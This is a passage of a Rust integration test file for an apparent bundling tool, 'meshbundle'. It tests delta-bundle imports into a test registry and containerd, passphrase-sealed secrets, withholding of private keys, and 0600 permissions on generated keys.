    let mut union: Vec<String> = base_blobs.iter().chain(&delta_blobs).cloned().collect();
    union.sort();
    assert_eq!(union, blobs("full.mbundle"));
    assert!(
        entries(&d.join("delta.mbundle"))
            .iter()
            .all(|(h, _)| !name_of(h).starts_with("files/")),
        "the files are all in the base"
    );
    assert_eq!(
        blobs("delta-lock.mbundle"),
        delta_blobs,
        "--since a lock leaves out the same"
    );
    assert_eq!(
        full["images"].as_array().unwrap().len(),
        base["images"].as_array().unwrap().len() + 1
    );
    let o = meshbundle(d, &["verify", "delta.mbundle", "--key", "release.pub"]);
    assert!(
        o.status.success() && text(&o.stdout).contains(&format!("completes bundle {base_id}")),
        "{}",
        text(&o.stdout)
    );

    // Importing the delta alone is refused, saying what is missing; after the base, it completes it.
    let reg = TestRegistry::start(None);
    let import = |bundle: &str, extra: &[&str]| {
        let mut all = vec![
            "import",
            bundle,
            "--quiet",
            "--registry",
            &reg.host,
            "--insecure",
            &reg.host,
        ];
        all.extend(extra);
        meshbundle(d, &all)
    };
    let o = import("delta.mbundle", &[]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        text(&o.stderr).contains("import the base bundle"),
        "{}",
        text(&o.stderr)
    );
    let o = meshbundle(d, &["import", "delta.mbundle", "--quiet", "--extract", "tree"]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        text(&o.stderr).contains("import the base bundle"),
        "{}",
        text(&o.stderr)
    );
    assert!(!d.join("tree").exists());
    let ctrd = Containerd::start(false);
    let sock = ctrd.socket.to_str().unwrap();
    let o = meshbundle(d, &["import", "delta.mbundle", "--quiet", "--containerd", sock]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        text(&o.stderr).contains("import the base bundle"),
        "{}",
        text(&o.stderr)
    );

    for b in ["base.mbundle", "delta.mbundle"] {
        let o = import(
            b,
            &["--extract", "tree", "--containerd", sock, "--identity", "operator.age"],
        );
        assert!(o.status.success(), "{b}: {}", text(&o.stderr));
    }
    let ls = text(&ctrd.ctr(&["-n", "k8s.io", "images", "ls"]).stdout);
    for img in full["images"].as_array().unwrap() {
        let site = img["site"].as_str().unwrap();
        let (tagged, digest) = site.split_once('@').unwrap();
        assert!(
            ls.lines()
                .any(|l| l.starts_with(&format!("{tagged} ")) && l.contains(digest)),
            "{tagged} in:\n{ls}"
        );
        let at = tagged.replacen("192.168.56.10:5000", &reg.host, 1);
        assert_eq!(skopeo_digest(&at, None), digest, "{at}");
    }
    assert_eq!(
        std::fs::read_to_string(d.join("tree/.meshbundle")).unwrap().trim(),
        delta["id"].as_str().unwrap()
    );
    let files = full["files"].as_array().unwrap();
    for file in files {
        let p = d.join("tree/files").join(file["name"].as_str().unwrap());
        assert_eq!(sha256_file(&p), file["sha256"].as_str().unwrap(), "{}", p.display());
    }
}

#[test]
fn build_refuses_unsealed_private_keys_and_passphrases_round_trip() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(d.join("site.yaml"), meshbundle_core::examples::example("lab").unwrap()).unwrap();
    let o = meshbundle(d, &["secrets", "generate", "site.yaml", "-o", "s.yaml"]);
    assert!(o.status.success());
    // Offline from the spec: the catalog's files are in no lock, so build says what to do.
    let o = meshbundle(
        d,
        &[
            "build",
            "site.yaml",
            "-o",
            "x.mbundle",
            "--locked",
            "--secrets",
            "s.yaml",
            "--no-private-keys",
        ],
    );
    assert_eq!(o.status.code(), Some(1));
    assert!(text(&o.stderr).contains("meshbundle lock"), "{}", text(&o.stderr));
    assert!(!d.join("x.mbundle").exists());
    let o = meshbundle(
        d,
        &["build", "--example", "lab", "-o", "x.mbundle", "--secrets", "s.yaml"],
    );
    assert_eq!(o.status.code(), Some(1));
    assert!(text(&o.stderr).contains("--recipient"), "{}", text(&o.stderr));
    assert!(!d.join("x.mbundle").exists());

    // A passphrase: sealed, opened at import; a wrong one writes nothing.
    std::fs::write(d.join("pass"), "correct horse battery staple\n").unwrap();
    std::fs::write(d.join("wrong"), "incorrect\n").unwrap();
    for f in ["pass", "wrong"] {
        std::fs::set_permissions(d.join(f), std::fs::Permissions::from_mode(0o600)).unwrap();
    }
    let o = meshbundle(
        d,
        &[
            "build",
            "--example",
            "lab",
            "-o",
            "p.mbundle",
            "--secrets",
            "s.yaml",
            "--passphrase-file",
            "pass",
            "--cache",
            "c",
        ],
    );
    assert!(o.status.success(), "{}", text(&o.stderr));
    let o = meshbundle(
        d,
        &[
            "build",
            "--example",
            "lab",
            "-o",
            "p2.mbundle",
            "--secrets",
            "s.yaml",
            "--passphrase-file",
            "pass",
            "--cache",
            "c",
        ],
    );
    assert!(o.status.success());
    assert_eq!(
        sha256_file(&d.join("p.mbundle")),
        sha256_file(&d.join("p2.mbundle")),
        "the cache keeps the ciphertext, so rebuilds match"
    );
    let o = meshbundle(
        d,
        &[
            "import",
            "p.mbundle",
            "--quiet",
            "--extract",
            "out",
            "--passphrase-file",
            "wrong",
        ],
    );
    assert_eq!(o.status.code(), Some(1));
    assert!(text(&o.stderr).contains("cannot decrypt"), "{}", text(&o.stderr));
    assert!(!d.join("out").exists());
    let o = meshbundle(
        d,
        &[
            "import",
            "p.mbundle",
            "--quiet",
            "--extract",
            "out",
            "--passphrase-file",
            "pass",
        ],
    );
    assert!(o.status.success(), "{}", text(&o.stderr));
    let secrets = meshbundle_core::pki::parse_secrets(&std::fs::read_to_string(d.join("s.yaml")).unwrap()).unwrap();
    let key = std::fs::read_to_string(d.join("out/secrets/kubernetes-pki/ca.key")).unwrap();
    assert_eq!(key, secrets.kubeadm.ca.key);
    assert_eq!(
        std::fs::metadata(d.join("out/secrets/kubernetes-pki/ca.key"))
            .unwrap()
            .permissions()
            .mode()
            & 0o777,
        0o600
    );
    // Nothing secret on the terminal.
    assert!(!text(&o.stdout).contains("PRIVATE") && !text(&o.stderr).contains("PRIVATE"));

    // Certificates only.
    let o = meshbundle(
        d,
        &[
            "build",
            "--example",
            "lab",
            "-o",
            "w.mbundle",
            "--secrets",
            "s.yaml",
            "--no-private-keys",
        ],
    );
    assert!(o.status.success());
    let v = inspect(d, "w.mbundle");
    assert_eq!(v["secrets"]["privateKeys"], "withheld");
    assert!(
        entries(&d.join("w.mbundle"))
            .iter()
            .all(|(h, _)| !name_of(h).ends_with(".key") && !name_of(h).ends_with(".age"))
    );
    assert!(!v["certificates"].as_array().unwrap().is_empty());

    // keygen: the private half is 0600, and is not overwritten without --force.
    let o = meshbundle(d, &["keygen", "-o", "k"]);
    assert!(o.status.success());
    assert_eq!(
        std::fs::metadata(d.join("k.key")).unwrap().permissions().mode() & 0o777,
        0o600
    );
    let o = meshbundle(d, &["keygen", "-o", "k"]);
    assert_eq!(o.status.code(), Some(1));
    run(Command::new("openssl")
        .args(["pkey", "-noout", "-in"])
        .arg(d.join("k.key")));
    run(Command::new("openssl")
        .args(["pkey", "-pubin", "-noout", "-in"])
        .arg(d.join("k.pub")));
}
